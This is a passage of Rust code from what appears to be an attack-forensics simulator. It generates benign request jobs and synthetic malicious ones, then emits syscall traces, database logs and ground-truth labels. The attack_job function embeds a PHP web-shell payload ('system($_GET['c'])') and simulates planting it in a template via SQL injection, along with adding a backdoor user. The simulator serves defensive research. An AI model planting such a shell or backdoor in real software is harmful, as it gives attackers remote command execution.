                steps.push(Step::Db(q));
            }
        } else {
            template = "mixed";
            dual_conn = pool_size >= 2 && self.rng.random_bool(0.3);
            let path = format!("/data/files/f_{rid}.dat");
            for _ in 0..self.rng.random_range(5..=8) {
                let data = self.rand_bytes(60, 200);
                steps.push(Step::AppendFile {
                    path: path.clone(),
                    data,
                });
            }
            for _ in 0..self.rng.random_range(10..=16) {
                let stmt = self.crud_statement(client);
                steps.push(Step::Db(DbWork::Modify(stmt)));
            }
        }
        steps.push(self.access_append(rid, template));
        JobSpec {
            rid: rid.to_string(),
            steps,
            dual_conn,
            malicious: false,
        }
    }

    fn attack_job(&mut self, rid: &str, role: AttackRole, client: usize) -> JobSpec {
        let payload = "<?php system($_GET['c']); ?>";
        let (_template, steps) = match role {
            AttackRole::Rce => (
                "rce",
                vec![
                    Step::OpenRead {
                        path: "/app/index.php".into(),
                    },
                    Step::Spawn {
                        script: webshell_chain(),
                    },
                ],
            ),
            AttackRole::Sqli => {
                let mut steps: Vec<Step> = (0..self.rng.random_range(6..=10))
                    .map(|_| {
                        let stmt = self.crud_statement(client);
                        Step::Db(DbWork::Modify(stmt))
                    })
                    .collect();
                steps.push(Step::Db(DbWork::Modify(Statement::Upd {
                    table: "content".into(),
                    key: "tpl_main".into(),
                    row: [("body".to_string(), json!(payload))].into_iter().collect(),
                })));
                steps.push(Step::Db(DbWork::Modify(Statement::Ins {
                    table: "users".into(),
                    key: format!("bd_{rid}"),
                    row: [("pw".to_string(), json!("x"))].into_iter().collect(),
                })));
                ("sqli", steps)
            }
            AttackRole::MsStage1 => (
                "ms_stage1",
                vec![
                    Step::OpenRead {
                        path: "/app/admin.php".into(),
                    },
                    Step::Db(DbWork::Modify(Statement::Upd {
                        table: "content".into(),
                        key: "tpl_main".into(),
                        row: [(
                            "body".to_string(),
                            json!(format!("{{function name='rce'}}{payload}{{/function}}")),
                        )]
                        .into_iter()
                        .collect(),
                    })),
                    Step::Db(DbWork::Modify(Statement::Upd {
                        table: "content".into(),
                        key: "tpl_main".into(),
                        row: [("cache".to_string(), json!("stale"))].into_iter().collect(),
                    })),
                ],
            ),
            AttackRole::MsStage2 => (
                "ms_stage2",
                vec![
                    Step::OpenRead {
                        path: "/app/render.php".into(),
                    },
                    Step::Db(DbWork::Query("SEL content tpl_main".into())),
                    Step::Spawn {
                        script: webshell_chain(),
                    },
                ],
            ),
        };
        JobSpec {
            rid: rid.to_string(),
            steps,
            dual_conn: false,
            malicious: true,
        }
    }
}

/// Run one scenario. Deterministic in the config.
pub fn simulate(config: &ScenarioConfig) -> Result<SimOutput, SimError> {
    config.validate()?;
    let cfg = config.clone();

    let mut attack_roles: BTreeMap<usize, AttackRole> = BTreeMap::new();
    for spec in &cfg.attacks {
        let entries: Vec<(usize, AttackRole)> = match spec.kind {
            AttackKind::RceWebshell => vec![(spec.at_request_index, AttackRole::Rce)],
            AttackKind::SqliWrite => vec![(spec.at_request_index, AttackRole::Sqli)],
            AttackKind::MultiStage => vec![
                (spec.at_request_index, AttackRole::MsStage1),
                (
                    cfg.multi_stage_second_index(spec.at_request_index),
                    AttackRole::MsStage2,
                ),
            ],
        };
        for (idx, role) in entries {
            if attack_roles.insert(idx, role).is_some() {
                return Err(SimError::InvalidConfig(format!(
                    "two attacks collide at request index {idx}"
                )));
            }
        }
    }

    // Jobs are generated up front with their own rng stream so scheduling
    // noise cannot perturb template contents.
    let mut factory = JobFactory {
        rng: ChaCha12Rng::seed_from_u64(cfg.seed.wrapping_mul(0x9e37_79b9).wrapping_add(1)),
        client_keys: BTreeMap::new(),
        key_counter: 0,
        concurrency: cfg.concurrency,
    };
    let mut jobs = VecDeque::new();
    for i in 0..cfg.request_count {
        let rid = format!("r{i:04}");
        let client = i % factory.concurrency;
        let job = match attack_roles.get(&i) {
            Some(role) => factory.attack_job(&rid, *role, client),
            None => factory.benign_job(&rid, client, cfg.pool_size),
        };
        jobs.push_back(job);
    }

    let model = cfg.server_model;
    let (web_pid, main_tid) = match model {
        ServerModel::ThreadPerRequest => (200u32, 2000u32),
        ServerModel::Coroutine => (300, 3000),
    };
    let tree = initial_tree();
    let db = initial_db();
    let mut rng = ChaCha12Rng::seed_from_u64(cfg.seed);
    let db_skew = if cfg.clock_skew_ns == 0 {
        0
    } else {
        rng.random_range(-(cfg.clock_skew_ns as i64)..=cfg.clock_skew_ns as i64)
    };

    let mut engine = Engine {
        snapshot_every: (cfg.request_count / 4).max(1),
        backup_every: (cfg.request_count / 6).max(1),
        rng,
        clock: CLOCK_START,
        db_skew,
        web_events: Vec::new(),
        web_seq: 0,
        db_events: Vec::new(),
        db_seq: 0,
        db_state: db.clone(),
        initial_db: db,
        tree: tree.clone(),
        initial_tree: tree,
        snapshots: Vec::new(),
        chain: BackupChain::default(),
        stmt_log_len: 0,
        app_log: Vec::new(),
        write_log: Vec::new(),
        write_seq: 0,
        op_history: Vec::new(),
        unit_labels: BTreeMap::new(),
        causal_labels: BTreeMap::new(),
        db_op_labels: Vec::new(),
        file_op_labels: Vec::new(),
        q: BTreeMap::new(),
        borrow_spans: BTreeMap::new(),
        worker_table: BTreeMap::new(),
        external: BTreeMap::new(),
        malicious_ids: BTreeSet::new(),
        request_ids: Vec::new(),
        jobs,
        requests: Vec::new(),
        children: Vec::new(),
        worker_queues: BTreeMap::new(),
        pool: Vec::new(),
        waiters: VecDeque::new(),
        free_threads: BTreeSet::new(),
        loop_owner: BTreeMap::new(),
        active: 0,
        completed: 0,
        web_pid,
        next_child_pid: 700,
        next_src_port: 40_000,
        next_ext_port: 51_000,
        next_db_worker_tid: 4000,
        next_db_fd: 5000,
        file_fd: 1000,
        ext_fd: 600,
        cfg,
    };

    // Worker threads / event loops.
    match model {
        ServerModel::ThreadPerRequest => {
            for w in 0..engine.cfg.concurrency {
                engine.free_threads.insert(2001 + w as u32);
            }
        }
        ServerModel::Coroutine => {
            let loops = if engine.cfg.concurrency >= 8 { 2 } else { 1 };
            for l in 0..loops {
                engine.loop_owner.insert(3001 + l as u32, None);
            }
        }
    }

    // Pre-traffic state: baseline snapshot and backup of the clean world.
    let t0 = engine.tick();
    engine.snapshots.push(snapshot_db(&engine.db_state, t0));
    let t1 = engine.tick();
    let chain = std::mem::take(&mut engine.chain);
    engine.chain = incremental_backup(chain, &engine.tree, t1).expect("first backup");

    // Connection pool setup, attributed to no request.
    let main_thread = ThreadId::new(web_pid, main_tid);
    for k in 0..engine.cfg.pool_size {
        engine.next_src_port += 1;
        let tuple = NetworkTuple::new(web_ip(), engine.next_src_port, db_ip(), DB_PORT);
        let web_fd = 100 + k as u32;
        engine.emit_web(main_thread, Syscall::Socket { fd: web_fd }, None, false);
        engine.emit_web(main_thread, Syscall::Connect { fd: web_fd, tuple }, None, false);
        engine.next_db_worker_tid += 1;
        engine.next_db_fd += 1;
        let worker = engine.next_db_worker_tid;
        let db_fd = engine.next_db_fd;
        engine.emit_db(worker, Syscall::Accept { fd: db_fd, tuple }, None);
        engine
            .worker_table
            .insert(tuple.to_string(), ThreadId::new(DB_PID, worker));
        engine.worker_queues.insert(worker, VecDeque::new());
        engine.pool.push(ConnSlot {
            web_fd,
            tuple,
            db_worker_tid: worker,
            db_fd,
            busy: None,
            borrows: 0,
        });
    }

    engine.run();

    // Pool exclusivity: per tuple, request usage intervals are pairwise
    // disjoint.
    {
        let mut by_tuple: BTreeMap<&str, Vec<(Ns, Ns, &str)>> = BTreeMap::new();
        for ((rid, tuple), (first, last)) in &engine.borrow_spans {
            by_tuple
                .entry(tuple.as_str())
                .or_default()
                .push((*first, *last, rid.as_str()));
        }
        for (tuple, mut spans) in by_tuple {
            spans.sort();
            for pair in spans.windows(2) {
                assert!(
                    pair[0].1 < pair[1].0,
                    "pool exclusivity violated on {tuple}: {pair:?}"
                );
            }
        }
    }

    // Benign-only reference states.
    let mut benign_db = engine.initial_db.clone();
    let mut benign_tree = engine.initial_tree.clone();
    for (rid, op) in &engine.op_history {
        if engine.malicious_ids.contains(rid) {
            continue;
        }
        match op {
            WorldOp::Db(stmt) => {
                benign_db.apply_statement(stmt);
            }
            WorldOp::FileWrite { path, offset, data } => {
                benign_tree.write_at(path, *offset, data);
            }
        }
    }

    let web_full = EventLog::from_events(engine.web_events);
    let db_full = EventLog::from_events(engine.db_events);
    let (web, db_log) = if engine.cfg.event_loss_prob > 0.0 {
        (
            inject_event_loss(&web_full, engine.cfg.event_loss_prob, engine.cfg.seed ^ 0x1157),
            inject_event_loss(&db_full, engine.cfg.event_loss_prob, engine.cfg.seed ^ 0x2db1),
        )
    } else {
        (web_full, db_full)
    };

    let truth = GroundTruth {
        server_model: engine.cfg.server_model,
        stmt_log_path: STMT_LOG_PATH.to_string(),
        db_endpoints: vec![format!("{DB_IP}:{DB_PORT}")],
        request_ids: engine.request_ids,
        malicious: engine.malicious_ids,
        unit_labels: engine.unit_labels,
        causal_labels: engine.causal_labels,
        db_op_labels: engine.db_op_labels,
        file_op_labels: engine.file_op_labels,
        q: engine.q,
        final_db_hash: engine.db_state.state_hash(),
        final_tree_hash: engine.tree.tree_hash(),
        benign_db,
        benign_tree,
        pool_borrows: {
            let mut map: BTreeMap<RequestId, Vec<BorrowSpan>> = BTreeMap::new();
            for ((rid, tuple), (first, last)) in engine.borrow_spans {
                map.entry(rid).or_default().push(BorrowSpan {
                    tuple,
                    first_use: first,
                    last_use: last,
                });
            }
            map
        },
        worker_table: engine.worker_table,
        external: engine
            .external
            .into_iter()
            .map(|(rid, tuples)| {
                (
                    rid,
                    tuples
                        .into_iter()
                        .map(|(tuple, bytes)| ExternalTruth { tuple, bytes })
                        .collect(),
                )
            })
            .collect(),
    };

    let store = Store {
        db: engine.db_state,
        tree: engine.tree,
        baseline: engine.initial_tree,
        snapshots: engine.snapshots,
        chain: engine.chain,
    };

    let web_trace = serialize_trace(&web);
    let db_trace = serialize_trace(&db_log);
    let app_log_text = serialize_app_log(&engine.app_log);

    Ok(SimOutput {
        config: engine.cfg,
        web,
        db: db_log,
        web_trace,
        db_trace,
        app_log: engine.app_log,
        app_log_text,
        write_log: engine.write_log,
        truth,
        store,
    })
}
